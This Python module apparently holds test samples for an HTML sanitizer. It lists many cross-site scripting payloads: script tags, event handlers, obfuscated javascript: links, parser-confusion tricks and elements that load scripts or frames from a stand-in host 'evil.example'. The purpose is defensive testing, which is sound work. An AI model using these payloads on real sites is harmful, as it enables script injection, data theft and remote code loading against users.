"""Harmful pieces of pages that run something. `hit()` stands for what an attacker would run."""

from __future__ import annotations

from .sample import EVIL, Sample

RUNNING: dict[str, Sample] = {
    # Script.
    "script": Sample("gate-script", "<script>hit()</script>", "runs"),
    "script, capitals": Sample("gate-script", "<SCRIPT>hit()</SCRIPT>", "runs"),
    "script, slash for a space": Sample("gate-script", "<script/x>hit()</script>", "runs"),
    "script never closed": Sample("gate-script", "<script>hit()"),
    "script in a table": Sample("gate-script", "<table><tr><script>hit()</script></table>", "runs"),
    "script in a select": Sample("gate-script", "<select><script>hit()</script></select>", "runs"),
    "script in the title of a select": Sample(
        "gate-element", "<select><title><script>hit()</script></title></select>"
    ),
    "script in CDATA of a select": Sample(
        "gate-element", "<select><svg><![CDATA[><script>hit()</script>]]></svg></select>"
    ),
    "script in svg": Sample("gate-script", "<svg><script>hit()</script></svg>", "runs"),
    "script in svg in entities": Sample("gate-script", "<svg><script>&#104;it()</script></svg>", "runs"),
    "script of svg by href": Sample("gate-reference", f'<svg><script href="{EVIL}/a.js"/></svg>', "fetches"),
    "script, module": Sample("gate-script", '<script type="module">hit()</script>', "runs"),
    "script, old type": Sample("gate-script", '<script type="text/ecmascript">hit()</script>', "runs"),
    "script after a comment": Sample("gate-script", "<!--><script>hit()</script>-->", "runs"),
    "script after a comment with !": Sample("gate-script", "<!-- x --!><script>hit()</script>", "runs"),
    "script after a textarea": Sample("gate-script", "<textarea></textarea><script>hit()</script>", "runs"),
    "script from a title": Sample("gate-script", "", "runs", "<title></title><script>hit()</script>"),
    "script in a template": Sample("gate-script", "<template><script>hit()</script></template>"),
    "script in a template in one": Sample(
        "gate-script", "<template><p><template><script>hit()</script></template></template>"
    ),
    "script in a shadow": Sample(
        "gate-script", '<div><template shadowrootmode="open"><script>hit()</script></template></div>', "runs"
    ),
    "script in noscript": Sample("gate-script", "<noscript><script>hit()</script></noscript>"),
    "script of others": Sample("gate-load-foreign", f'<script src="{EVIL}/a.js"></script>', "fetches"),
    "script of others, no scheme": Sample(
        "gate-load-foreign", '<script src="//evil.example/a"></script>', "fetches"
    ),
    "script of others, backslashes": Sample(
        "gate-load-foreign", r'<script src="\\evil.example\a"></script>', "fetches"
    ),
    "script that is data": Sample("gate-address", '<script src="data:,hit()"></script>', "runs"),
    "script that is missing": Sample("gate-load", '<script src="../../assets/gone.js"></script>'),
    "script that is a picture": Sample("gate-asset", '<script src="../../a.png"></script>'),
    "import map": Sample("gate-script", '<script type="importmap">{"imports": {}}</script>'),
    "speculation rules": Sample(
        "gate-script",
        f'<script type="speculationrules">{{"prefetch": [{{"urls": ["{EVIL}/"]}}]}}</script>',
    ),
    "data that is not JSON": Sample("gate-json", '<script type="application/ld+json">{"a": 1,}</script>'),
    "data cut by a text": Sample(
        "gate-json", '<script type="application/ld+json">{"a": "</script><b>"}</script>'
    ),
    "data cut by a text, with script": Sample(
        "gate-script", '<script type="application/json">{"a": "</script><script>hit()</script>"}', "runs"
    ),
    # Handlers.
    "handler": Sample("gate-handler", '<img src="a.png" alt="" onload="hit()">', "runs"),
    "handler, capitals": Sample("gate-handler", '<IMG SRC=a.png ALT="" ONLOAD=hit()>', "runs"),
    "handler of an image in a table": Sample(
        "gate-handler", '<table><image src="a.png" alt="" onload="hit()"></table>', "runs"
    ),
    "handler of an image between the rows of a shadow": Sample(
        "gate-handler",
        '<div><template shadowrootmode="open"><tr><image src="a.png" alt="" onload="hit()"></template></div>',
        "runs",
    ),
    "handler after a slash": Sample("gate-handler", '<img/src="a.png"/alt=""/onload=hit()>', "runs"),
    "handler after a quote": Sample("gate-handler", '<img src="a.png"alt=""onload="hit()">', "runs"),
    "handler out of an alt": Sample("gate-handler", '<img src="a.png" alt="" onload="hit()" x="">', "runs"),
    "handler of a body": Sample("gate-handler", '<body onload="hit()">', "runs"),
    "handler of an html": Sample("gate-handler", '<html onclick="hit()">', "clicked"),
    "handler of svg": Sample("gate-handler", '<svg onload="hit()"></svg>', "runs"),
    "handler of an unknown element": Sample(
        "gate-handler", '<x-y tabindex=1 autofocus onfocus="hit()">x</x-y>', "runs"
    ),
    "handler of a details": Sample("gate-handler", "<details open ontoggle=hit()>x</details>", "runs"),
    "handler in svg style": Sample(
        "gate-handler", '<svg><style><img src="a.png" alt="" onload="hit()"></style></svg>', "runs"
    ),
    "handler in svg title": Sample(
        "gate-handler", '<svg><title><img src="a.png" alt="" onload=hit()></title></svg>', "runs"
    ),
    "handler in svg desc": Sample(
        "gate-handler", '<svg><desc><img src="a.png" alt="" onload=hit()></desc></svg>', "runs"
    ),
    "handler in a select": Sample(
        "gate-handler", '<select><img src="a.png" alt="" onload=hit()></select>', "runs"
    ),
    "handler after noscript's end in an attribute": Sample(
        "gate-handler", "<noscript><p title=\"</noscript><img src=a.png alt='' onload=hit()>\">", "runs"
    ),
    "handler in noscript": Sample("gate-handler", '<noscript><p onclick="hit()">x</p></noscript>'),
    "handler after a style's end": Sample(
        "gate-handler", "<style>a{}</style><img src=a.png alt='' onload=hit()>", "runs"
    ),
    "handler after a title's end in an attribute": Sample(
        "gate-handler",
        "<textarea><p title='</textarea><img src=a.png alt=\"\" onload=hit()>'></textarea>",
        "runs",
    ),
    "handler in math": Sample(
        "gate-handler",
        "<math><mtext><table><mglyph><style><!--</style><img src=a.png alt='' onload=hit()>",
        "runs",
    ),
    "handler after CDATA outside svg": Sample(
        "gate-handler", "<![CDATA[><img src=a.png alt='' onload=hit()>]]>", "runs"
    ),
    "handler in a template": Sample("gate-handler", '<template><p onclick="hit()">x</p></template>'),
    # Addresses that run.
    "javascript": Sample("gate-address", '<a href="javascript:hit()">x</a>', "clicked"),
    "javascript, capitals": Sample("gate-address", '<a href="JaVaScRiPt:hit()">x</a>', "clicked"),
    "javascript after spaces": Sample("gate-address", '<a href="  \n javascript:hit()">x</a>', "clicked"),
    "javascript with a tab": Sample("gate-address", '<a href="java\tscript:hit()">x</a>', "clicked"),
    "javascript with a line end": Sample("gate-address", '<a href="javascript\n:hit()">x</a>', "clicked"),
    "javascript, tab as entity": Sample("gate-address", '<a href="java&Tab;script:hit()">x</a>', "clicked"),
    "javascript, line end as entity": Sample(
        "gate-address", '<a href="java&NewLine;script:hit()">x</a>', "clicked"
    ),
    "javascript, letter as entity": Sample(
        "gate-address", '<a href="&#106;avascript:hit()">x</a>', "clicked"
    ),
    "javascript, entity without end": Sample(
        "gate-address", '<a href="&#106avascript:hit()">x</a>', "clicked"
    ),
    "javascript, hex entity with zeros": Sample(
        "gate-address", '<a href="&#x00006A;avascript&colon;hit()">x</a>', "clicked"
    ),
    "javascript without quotes": Sample("gate-address", "<a href=javascript:hit()>x</a>", "clicked"),
    "javascript in an area": Sample(
        "gate-address",
        '<map name="m"><area shape="default" alt="x" href="javascript:hit()"></map>',
    ),
    "javascript in svg": Sample(
        "gate-address", '<svg><a href="javascript:hit()"><text y="20">x</text></a></svg>', "clicked"
    ),
    "javascript in svg by xlink": Sample(
        "gate-address", '<svg><a xlink:href="javascript:hit()"><text y="20">x</text></a></svg>', "clicked"
    ),
    "javascript in a form": Sample(
        "gate-address", '<form action="javascript:hit()"><button>x</button></form>', "clicked"
    ),
    "javascript in a button": Sample(
        "gate-address", '<form><button formaction="javascript:hit()">x</button></form>', "clicked"
    ),
    "javascript after another href": Sample(
        "gate-address", '<a href="javascript:hit()" href="../../">x</a>', "clicked"
    ),
    "vbscript": Sample("gate-address", '<a href="vbscript:hit()">x</a>'),
    "a page in data": Sample("gate-address", '<a href="data:text/html,<script>hit()</script>">x</a>'),
    "blob": Sample("gate-address", '<a href="blob:https://careers.example.org/1">x</a>'),
    "file": Sample("gate-address", '<a href="file:///etc/passwd">x</a>'),
    "unknown program": Sample("gate-address", '<a href="ms-word:ofe|u|https://evil.example/a.doc">x</a>'),
    "source view": Sample("gate-address", '<a href="view-source:https://careers.example.org/">x</a>'),
    "name in an address": Sample(
        "gate-address-user", '<a href="https://careers.example.org@evil.example/">x</a>'
    ),
    "name in an address, no scheme": Sample(
        "gate-address-user", '<a href="//careers.example.org@evil.example/">x</a>'
    ),
    "one slash": Sample("gate-address-form", '<a href="https:/evil.example/">x</a>'),
    "three slashes": Sample("gate-address-form", '<a href="https:///evil.example/">x</a>'),
    "no slash": Sample("gate-address-form", '<a href="https:evil.example">x</a>'),
    # Elements.
    "iframe": Sample("gate-element", f'<iframe src="{EVIL}/"></iframe>', "fetches"),
    "iframe with a page in it": Sample(
        "gate-element", '<iframe srcdoc="<script>parent.hit()</script>"></iframe>', "runs"
    ),
    "iframe in capitals": Sample("gate-element", "<IFRAME></IFRAME>"),
    "object": Sample("gate-element", f'<object data="{EVIL}/a.svg"></object>', "fetches"),
    "embed": Sample("gate-element", f'<embed src="{EVIL}/a.svg">', "fetches"),
    "applet": Sample("gate-element", '<applet code="a"></applet>'),
    "portal": Sample("gate-element", f'<portal src="{EVIL}/"></portal>'),
    "fenced frame": Sample("gate-element", "<fencedframe></fencedframe>"),
    "math": Sample("gate-element", "<math><mi>x</mi></math>"),
    "math that links": Sample("gate-element", '<math href="javascript:hit()">x</math>'),
    "plaintext": Sample("gate-element", "<plaintext>x"),
    "noembed": Sample("gate-element", "<noembed>x</noembed>"),
    "xmp": Sample("gate-element", "<xmp>x</xmp>"),
    "base": Sample("gate-element", '<img src="a.png" alt="">', "fetches", f'<base href="{EVIL}/">'),
    "foreign object": Sample("gate-element", "<svg><foreignObject><p>x</p></foreignObject></svg>"),
    "animation of an address": Sample(
        "gate-element",
        '<svg><a><animate attributeName="href" values="javascript:hit()"/><text y="20">x</text></a></svg>',
        "",
    ),
    "setting an attribute": Sample("gate-element", '<svg><set attributeName="onclick" to="hit()"/></svg>'),
    "use of another file": Sample("gate-reference", f'<svg><use href="{EVIL}/a.svg#x"/></svg>'),
    "use of data": Sample(
        "gate-reference", '<svg><use xlink:href="data:image/svg+xml,<svg onload=hit()/>#x"/></svg>'
    ),
    "paint from another site": Sample(
        "gate-reference", f'<svg><rect width="9" height="9" filter="url({EVIL}/a.svg#f)"/></svg>'
    ),
    "paint with an escape": Sample(
        "gate-reference", f'<svg><rect width="9" height="9" mask="u\\72l({EVIL}/a.svg#f)"/></svg>'
    ),
}
